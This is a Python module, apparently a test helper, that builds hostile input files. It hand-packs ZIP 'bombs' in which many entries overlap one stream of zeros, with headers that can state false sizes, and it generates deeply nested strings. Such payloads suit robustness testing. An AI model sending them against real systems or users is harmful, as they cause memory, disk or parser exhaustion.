"""Files that attack a reader, made small and quickly."""

import struct
import zlib

_LOCAL = struct.Struct("<4s5H3L2H")
_CENTRAL = struct.Struct("<4s6H3L5H2L")
_END = struct.Struct("<4s4H2LH")
_MEGABYTE = 1_048_576


def zip_bomb(megabytes: int, *names: str, told: int | None = None) -> bytes:
    """Return a zip whose entries ``names`` all unpack to the same zeros, ``megabytes`` each.

    ``told`` is the size that the headers give instead of the true one.
    """
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(bytes(_MEGABYTE)) + packer.flush(zlib.Z_FULL_FLUSH)
    packed = block * megabytes + packer.flush()
    sizes = (0, len(packed), megabytes * _MEGABYTE if told is None else told)
    first = names[0].encode()
    local = _LOCAL.pack(b"PK\x03\x04", 20, 0, 8, 0, 33, *sizes, len(first), 0) + first
    directory = b"".join(
        _CENTRAL.pack(b"PK\x01\x02", 20, 20, 0, 8, 0, 33, *sizes, len(name), 0, 0, 0, 0, 0, 0) + name.encode()
        for name in names
    )
    end = _END.pack(b"PK\x05\x06", 0, 0, len(names), len(names), len(directory), len(local) + len(packed), 0)
    return local + packed + directory + end


def nested(levels: int, opening: str, inside: str, closing: str) -> str:
    """Return ``inside`` within that many levels."""
    return opening * levels + inside + closing * levels
